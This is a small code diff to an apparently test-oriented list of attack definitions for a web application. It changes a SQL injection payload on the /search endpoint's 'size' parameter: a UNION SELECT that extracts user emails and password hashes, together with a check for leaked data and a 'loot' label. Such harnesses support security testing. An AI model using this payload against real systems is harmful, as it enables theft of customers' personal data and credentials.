@@ -25,8 +25,8 @@ ATTACKS = (
     Attack(
         name="SQL injection in the search",
         path="/search",
-        query={"size": "' UNION SELECT id, full_name, email, password, 1, 2, 3, 4, password, 6 FROM users --"},
-        gives_away=lambda text: "pbkdf2" in text or "ada@" in text,
+        query={"size": "' UNION SELECT id, email || ' ' || password, 1, 2, 3, 4, 5, 6, 7, 8 FROM users --"},
+        gives_away=lambda text: "grace@" in text,
         loot="customers' addresses and password hashes",
     ),
     Attack(
